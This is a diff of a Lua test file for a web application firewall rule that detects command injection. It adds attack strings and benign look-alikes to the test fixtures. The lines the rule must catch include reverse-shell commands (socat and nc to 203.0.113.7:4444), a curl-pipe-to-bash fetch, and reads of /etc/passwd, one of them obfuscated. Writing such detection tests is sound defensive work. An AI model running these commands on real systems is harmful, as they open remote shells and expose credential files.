@@ -52,11 +52,11 @@ describe_rules("edge.waf.rules command injection shapes", function()
         caught_by(132180, { "uname -a", "crontab -l", "kill -9 -1", "tac /etc/hosts", "cat /etc/passwd",
             "socat tcp-connect:203.0.113.7:4444 exec:sh,pty", "ls -la /var/www", "nc 203.0.113.7 4444 -e /bin/sh",
             "curl -s https://h.example/i | bash", "wget http://h.example/x -O /tmp/x", "dir c:\\users",
-            "x; /usr/bin/id -u", "cat$u /etc$u/passwd$u", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
+            "x; /usr/bin/id -u", "cat$u /etc$u/passwd$u", "sleep 10", "timeout 5s;", "rpm -qa", "unshare -r /bin/sh", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
         clean({ "ping -c 4 is what I used; packet loss was 0%", "python -m venv .venv is the first step",
             "docker compose up -d brings up postgres", "ls output attached", "cat food, dog food & bird seed",
             "type 2 diabetes", "Type A/B testing", "set 2 of 3", "ID 12345", "echo park, los angeles",
-            "the /usr/bin/python path", "cat$ is my handle", "#!/usr/bin/env python3", "installed to /usr/bin/node",
+            "the /usr/bin/python path", "cat$ is my handle", "sleep 8 hours", "ping 5 people", "#!/usr/bin/env python3", "installed to /usr/bin/node",
             "id: 42; name: Ann", "ping <mailto:a@example.org|a@example.org> for access", "curl the health endpoint to check: https://api.example.com/healthz" })
     end)
 
